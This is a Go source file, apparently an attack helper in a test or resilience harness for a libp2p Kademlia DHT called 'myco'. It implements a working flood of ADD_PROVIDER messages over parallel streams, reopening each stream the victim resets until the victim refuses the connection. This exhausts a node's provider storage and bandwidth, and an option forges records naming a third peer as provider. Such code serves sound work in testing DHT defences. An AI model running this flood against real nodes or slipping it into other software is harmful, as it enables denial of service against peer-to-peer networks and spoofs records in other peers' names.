package attack

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"fmt"
	"sync"

	pb "github.com/libp2p/go-libp2p-kad-dht/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-msgio/pbio"
	"github.com/multiformats/go-multihash"
	"google.golang.org/protobuf/proto"
)

// KadProtocol is myco's Kademlia protocol.
const KadProtocol protocol.ID = "/myco/kad/1.0.0"

// ProviderFlood is what FloodProviders achieved.
type ProviderFlood struct {
	// Sent counts ADD_PROVIDER messages written; Streams the streams
	// opened for them (a reset stream is replaced by a new one).
	Sent    int
	Streams int
	// BytesOut is what the messages weighed on the wire.
	BytesOut int64
	// Err is why the flood stopped early (nil when all n were sent).
	Err error
}

// FloodProviders sends n ADD_PROVIDER messages for random keys from h to
// target on streams parallel streams, each as fast as its stream takes
// them, all naming h itself as the provider (so a victim that stores only
// records whose provider is the sender stores them); a stream the victim
// resets is replaced by a new one, until the victim refuses the
// connection or ctx ends. When otherProvider is set, every record names
// that peer instead.
func FloodProviders(ctx context.Context, h host.Host, target peer.ID, n, streams int, otherProvider *peer.AddrInfo) ProviderFlood {
	prov := peer.AddrInfo{ID: h.ID(), Addrs: h.Addrs()}
	if otherProvider != nil {
		prov = *otherProvider
	}
	var (
		mu  sync.Mutex
		res ProviderFlood
		wg  sync.WaitGroup
	)
	each := n / max(streams, 1)
	for i := range streams {
		share := each
		if i == streams-1 {
			share = n - each*(streams-1)
		}
		wg.Go(func() {
			r := floodProviders(ctx, h, target, share, prov)
			mu.Lock()
			defer mu.Unlock()
			res.Sent += r.Sent
			res.Streams += r.Streams
			res.BytesOut += r.BytesOut
			if res.Err == nil {
				res.Err = r.Err
			}
		})
	}
	wg.Wait()
	return res
}

func floodProviders(ctx context.Context, h host.Host, target peer.ID, n int, prov peer.AddrInfo) ProviderFlood {
	var res ProviderFlood
	var (
		str  network.Stream
		w    pbio.WriteCloser
		stop = func() bool { return true }
	)
	defer func() {
		stop()
		if str != nil {
			str.Close()
		}
	}()
	key := make([]byte, 32)
	for res.Sent < n {
		if ctx.Err() != nil {
			res.Err = ctx.Err()
			return res
		}
		if str == nil {
			s, err := h.NewStream(network.WithNoDial(ctx, "attack"), target, KadProtocol)
			if err != nil {
				res.Err = fmt.Errorf("open stream after %d records: %w", res.Sent, err)
				return res
			}
			stop()
			str, w = s, pbio.NewDelimitedWriter(s)
			// A write blocked by the victim's flow control ends with ctx.
			stop = context.AfterFunc(ctx, func() { s.Reset() })
			res.Streams++
		}
		rand.Read(key)
		sum := sha256.Sum256(key)
		mh, _ := multihash.Encode(sum[:], multihash.SHA2_256)
		msg := pb.NewMessage(pb.Message_ADD_PROVIDER, mh, 0)
		msg.ProviderPeers = pb.RawPeerInfosToPBPeers([]peer.AddrInfo{prov})
		if err := w.WriteMsg(msg); err != nil {
			str.Reset()
			str = nil
			continue
		}
		res.Sent++
		res.BytesOut += int64(proto.Size(msg))
	}
	return res
}
